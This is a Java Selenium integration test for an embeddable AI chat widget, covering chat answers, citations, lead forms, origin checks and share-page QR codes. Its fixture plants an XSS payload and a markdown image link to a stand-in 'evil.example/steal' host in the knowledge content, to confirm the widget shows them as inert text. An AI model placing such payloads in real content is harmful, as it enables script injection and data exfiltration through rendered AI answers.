package it.encaptio.delivery;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.google.zxing.BinaryBitmap;
import com.google.zxing.RGBLuminanceSource;
import com.google.zxing.common.HybridBinarizer;
import com.google.zxing.qrcode.QRCodeReader;
import it.encaptio.ItEnvironment;
import it.encaptio.ai.AssistantFixture;
import it.encaptio.capsule.CapsuleApi;
import it.encaptio.support.Browser;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.Keys;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.SearchContext;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebElement;

/**
 * The widget and the share page in headless Chromium. A customer's site on another port (another
 * origin) with hostile CSS embeds two capsules: a visitor opens the bubble, asks, sees the streamed
 * answer with a citation, rates it and leaves a lead; the inline capsule on the same page answers
 * on its own, in its own language (German); a page of an origin the capsules don't allow gets no
 * chat. The share page answers too, and the QR codes decode to its address.
 */
class WidgetBrowserIT {

  private static final CapsuleApi alice = new CapsuleApi("alice.acme");
  private static CustomerSite shop;
  private static CustomerSite elsewhere;
  private static String capsuleA;
  private static String keyA;
  private static String keyB;

  @BeforeAll
  static void customerSiteWithTwoCapsules() throws Exception {
    shop = new CustomerSite();
    elsewhere = new CustomerSite();
    capsuleA = AssistantFixture.capsule(alice, "Widget A " + System.nanoTime());
    AssistantFixture.add(
        alice,
        capsuleA,
        "Welcome gift",
        "The welcome gift is a bottle of wine <img src=x onerror=\"window.pwned=1\">"
            + " ![leak](https://evil.example/steal?c=1) left on the kitchen table.");
    JsonNode draft = alice.expect(200, "GET", "/" + capsuleA, null);
    ObjectNode settings = (ObjectNode) draft.get("draft").deepCopy();
    settings
        .putObject("leadForm")
        .put("enabled", true)
        .put("title", "Book a viewing")
        .put("consent", "I agree to be contacted about the loft.")
        .<ObjectNode>set("fields", ItEnvironment.JSON.valueToTree(new String[] {"name", "email"}))
        .set("required", ItEnvironment.JSON.valueToTree(new String[] {"email"}));
    alice.saveDraft(draft, settings);
    keyA = alice.expect(200, "POST", "/" + capsuleA + "/publish", null).get("publicKey").asText();
    String capsuleB = AssistantFixture.capsule(alice, "Widget B " + System.nanoTime());
    JsonNode draftB = alice.expect(200, "GET", "/" + capsuleB, null);
    ObjectNode german = (ObjectNode) draftB.get("draft").deepCopy();
    german.put("language", "de");
    alice.saveDraft(draftB, german);
    keyB = alice.expect(200, "POST", "/" + capsuleB + "/publish", null).get("publicKey").asText();
    for (String capsule : List.of(capsuleA, capsuleB)) {
      alice.expect(
          200,
          "PUT",
          "/" + capsule + "/delivery",
          "{\"allowedOrigins\": [\"" + shop.origin() + "\"]}");
    }
    String page =
        CustomerSite.widget(keyA, "")
            + "<div id=\"help\" style=\"height:500px\"></div>"
            + CustomerSite.widget(keyB, "data-mode=\"inline\" data-target=\"#help\"");
    shop.page("/shop.html", page);
    elsewhere.page("/shop.html", page);
  }

  @AfterAll
  static void closeSites() {
    shop.close();
    elsewhere.close();
  }

  @Test
  void aVisitorOnACustomerSiteChatsRatesAndLeavesALead() throws Exception {
    try (Browser browser = new Browser()) {
      browser.driver.get(shop.url("/shop.html"));
      SearchContext a = widget(browser, keyA, ".launcher");
      a.findElement(By.cssSelector(".launcher")).click();
      WebElement input = a.findElement(By.cssSelector(".composer textarea"));
      browser.wait.until(d -> input.isDisplayed());
      input.sendKeys("What time is check-out?", Keys.ENTER);
      WebElement answer = lastAnswer(browser, a);
      assertThat(answer.findElement(By.cssSelector(".text")).getText()).contains("11:00");
      WebElement cite = answer.findElement(By.cssSelector("a.cite"));
      assertThat(cite.getText()).isEqualTo("[1]");
      cite.click();
      WebElement source = answer.findElement(By.cssSelector(".sources details"));
      browser.wait.until(d -> source.getAttribute("open") != null);
      assertThat(source.getText()).contains("House rules");
      // the item's title once, not again as the heading its text was indexed under
      assertThat(source.findElement(By.tagName("summary")).getText()).isEqualTo("[1] House rules");

      // the thumbs are drawn, not characters of an emoji font the visitor may not have
      for (WebElement thumb : answer.findElements(By.cssSelector("button.thumb"))) {
        assertThat(thumb.getText()).isEmpty();
        assertThat(thumb.findElement(By.tagName("svg")).getRect().getWidth()).isEqualTo(16);
      }
      answer.findElement(By.cssSelector("button.thumb")).click();
      browser.wait.until(
          d -> a.findElement(By.cssSelector(".status")).getText().contains("Thanks"));

      a.findElement(By.cssSelector(".lead summary")).click();
      String email = "visitor." + System.nanoTime() + "@example.com";
      a.findElement(By.cssSelector(".lead input[name=email]")).sendKeys(email);
      a.findElement(By.cssSelector(".lead input[name=consent]")).click();
      a.findElement(By.cssSelector(".lead-form button[type=submit]")).click();
      browser.wait.until(d -> !a.findElements(By.cssSelector(".lead .done")).isEmpty());
      JsonNode leads = alice.expect(200, "GET", "/" + capsuleA + "/leads", null);
      assertThat(leads.toString()).contains(email);

      // the host page's CSS reaches nothing inside the widget, and the widget's none outside
      JavascriptExecutor js = (JavascriptExecutor) browser.driver;
      Object styles =
          js.executeScript(
              "var root = document.querySelector('[data-encaptio=\"' + arguments[0] + '\"]')"
                  + ".shadowRoot; var send = root.querySelector('.send');"
                  + " var text = root.querySelector('.message.visitor .text');"
                  + " return [getComputedStyle(send).display, getComputedStyle(text).fontSize,"
                  + " getComputedStyle(text).color,"
                  + " getComputedStyle(document.querySelector('p.host')).fontSize];",
              keyA);
      assertThat((List<?>) styles).element(0).isNotEqualTo("none");
      assertThat(((List<?>) styles).get(1)).isEqualTo("15px");
      assertThat(((List<?>) styles).get(2)).isNotEqualTo("rgb(255, 0, 0)");
      assertThat(((List<?>) styles).get(3)).isEqualTo("40px");

      // the second capsule on the page, inline, answers on its own
      SearchContext b = widget(browser, keyB, ".composer textarea");
      assertThat(b.findElement(By.cssSelector(".composer textarea")).getAttribute("placeholder"))
          .as("the capsule's language: German")
          .isEqualTo("Stellen Sie eine Frage…");
      int answersInA = a.findElements(By.cssSelector(".message.assistant:not(.welcome)")).size();
      b.findElement(By.cssSelector(".composer textarea"))
          .sendKeys("How much is the rent?", Keys.ENTER);
      assertThat(lastAnswer(browser, b).getText()).contains("1,450 euros");
      assertThat(a.findElements(By.cssSelector(".message.assistant:not(.welcome)")))
          .hasSize(answersInA);

      // the JavaScript API
      Object viaApi =
          js.executeAsyncScript(
              "var done = arguments[arguments.length - 1];"
                  + " Encaptio.get(arguments[0]).send('Where can I park?')"
                  + ".then(function (a) { done(a.text); }, function (e) { done('failed ' + e); });",
              keyA);
      assertThat((String) viaApi).contains("12 euros");

      // what the content says is shown as text, never run or loaded
      a.findElement(By.cssSelector(".composer textarea"))
          .sendKeys("What is the welcome gift?", Keys.ENTER);
      WebElement gift = lastAnswer(browser, a);
      browser.wait.until(d -> gift.getText().contains("bottle of wine"));
      assertThat(a.findElements(By.cssSelector(".log img"))).isEmpty();
      assertThat(js.executeScript("return window.pwned === undefined")).isEqualTo(true);
    }
  }

  @Test
  void thePopupOpensFromThePageAndTheChatIsUsableWithTheKeyboard() throws Exception {
    shop.page(
        "/popup.html",
        "<button id=\"help\" data-encaptio-open=\""
            + keyA
            + "\">Help</button>"
            + CustomerSite.widget(keyA, "data-mode=\"popup\""));
    try (Browser browser = new Browser()) {
      browser.driver.get(shop.url("/popup.html"));
      SearchContext popup = widget(browser, keyA, ".panel");
      WebElement panel = popup.findElement(By.cssSelector(".panel"));
      assertThat(panel.isDisplayed()).as("a popup waits to be opened").isFalse();
      assertThat(popup.findElements(By.cssSelector(".launcher"))).isEmpty();
      JavascriptExecutor js = (JavascriptExecutor) browser.driver;
      // the page's own button, reached and pressed with the keyboard
      js.executeScript(
          "document.getElementById('help').style.cssText = 'display:block !important'");
      browser.driver.findElement(By.tagName("body")).sendKeys(Keys.TAB);
      new org.openqa.selenium.interactions.Actions(browser.driver).sendKeys(Keys.ENTER).perform();
      browser.wait.until(d -> panel.isDisplayed());
      browser.wait.until(
          d ->
              "TEXTAREA"
                  .equals(
                      js.executeScript(
                          "var r = document.querySelector('[data-encaptio]').shadowRoot;"
                              + " return r.activeElement && r.activeElement.tagName;")));
      new org.openqa.selenium.interactions.Actions(browser.driver)
          .sendKeys("When do quiet hours start?", Keys.ENTER)
          .perform();
      assertThat(lastAnswer(browser, popup).getText()).contains("22:00");
      new org.openqa.selenium.interactions.Actions(browser.driver).sendKeys(Keys.ESCAPE).perform();
      browser.wait.until(d -> !panel.isDisplayed());
      assertThat(popup.findElement(By.cssSelector(".panel")).getAttribute("aria-label"))
          .as("the dialog is named for screen readers")
          .startsWith("Widget A");
    }
  }

  @Test
  void aPageOfAnotherOriginGetsNoChat() throws Exception {
    try (Browser browser = new Browser()) {
      browser.driver.get(elsewhere.url("/shop.html"));
      JavascriptExecutor js = (JavascriptExecutor) browser.driver;
      browser.wait.until(
          d ->
              Boolean.TRUE.equals(
                  js.executeScript(
                      "var w = window.Encaptio && Encaptio.get(arguments[0]);"
                          + " return !!(w && w.failed);",
                      keyA)));
      assertThat(js.executeScript("return Encaptio.get(arguments[0]).failed.status", keyA))
          .isEqualTo(403L);
      assertThat(browser.driver.findElements(By.cssSelector("[data-encaptio]"))).isEmpty();
    }
  }

  @Test
  void theSharePageChatsAndItsQrCodesDecodeToItsAddress() throws Exception {
    JsonNode share = alice.expect(200, "GET", "/" + capsuleA + "/share", null);
    String url = share.get("url").asText();
    assertThat(url).as("a readable address from the name").matches(".*/c/widget-a-[0-9]+$");
    assertThat(alice.expect(200, "GET", "/" + capsuleA + "/share", null).get("url").asText())
        .as("the same every time")
        .isEqualTo(url);
    assertThat(share.get("widgetSnippet").asText()).contains("data-capsule=\"" + keyA + "\"");

    HttpResponse<byte[]> png = download("/" + capsuleA + "/share/qr?format=png&size=400");
    assertThat(png.headers().firstValue("Content-Type").orElse("")).startsWith("image/png");
    assertThat(decode(ImageIO.read(new ByteArrayInputStream(png.body())))).isEqualTo(url);

    try (Browser browser = new Browser()) {
      HttpResponse<byte[]> svg = download("/" + capsuleA + "/share/qr?format=svg&size=400");
      Path file = Files.createTempFile("qr", ".svg");
      Files.write(file, svg.body());
      browser.driver.get(file.toUri().toString());
      byte[] shot = ((TakesScreenshot) browser.driver).getScreenshotAs(OutputType.BYTES);
      assertThat(decode(ImageIO.read(new ByteArrayInputStream(shot))))
          .as("the SVG as Chromium draws it")
          .isEqualTo(url);

      browser.driver.get(url);
      SearchContext page = widget(browser, keyA, ".composer textarea");
      assertThat(browser.driver.getTitle()).startsWith("Widget A");
      page.findElement(By.cssSelector(".composer textarea"))
          .sendKeys("Are dogs allowed?", Keys.ENTER);
      assertThat(lastAnswer(browser, page).getText()).contains("Dogs and cats are welcome");
    }
  }

  /** The widget's shadow root once it shows {@code ready}. */
  private static SearchContext widget(Browser browser, String key, String ready) {
    return browser.wait.until(
        d -> {
          List<WebElement> hosts = d.findElements(By.cssSelector("[data-encaptio='" + key + "']"));
          if (hosts.isEmpty()) {
            return null;
          }
          SearchContext root = hosts.get(0).getShadowRoot();
          return root.findElements(By.cssSelector(ready)).isEmpty() ? null : root;
        });
  }

  /** The last answer once it is complete (its sources or its thumbs are shown). */
  private static WebElement lastAnswer(Browser browser, SearchContext root) {
    return browser.wait.until(
        d -> {
          List<WebElement> answers =
              root.findElements(By.cssSelector(".message.assistant:not(.welcome)"));
          if (answers.isEmpty()) {
            return null;
          }
          WebElement last = answers.get(answers.size() - 1);
          return last.getAttribute("class").contains("pending")
                  || last.findElements(By.cssSelector(".thumbs")).isEmpty()
              ? null
              : last;
        });
  }

  private static HttpResponse<byte[]> download(String path) throws Exception {
    HttpResponse<byte[]> response =
        HttpClient.newHttpClient()
            .send(
                HttpRequest.newBuilder(
                        URI.create(ItEnvironment.baseUrl() + "/api/v1/capsules" + path))
                    .header(
                        "Authorization",
                        "Bearer " + ItEnvironment.accessToken("alice.acme", "openid organization"))
                    .timeout(Duration.ofSeconds(30))
                    .build(),
                HttpResponse.BodyHandlers.ofByteArray());
    assertThat(response.statusCode()).isEqualTo(200);
    return response;
  }

  static String decode(BufferedImage image) throws Exception {
    int[] pixels =
        image.getRGB(0, 0, image.getWidth(), image.getHeight(), null, 0, image.getWidth());
    return new QRCodeReader()
        .decode(
            new BinaryBitmap(
                new HybridBinarizer(
                    new RGBLuminanceSource(image.getWidth(), image.getHeight(), pixels))))
        .getText();
  }
}
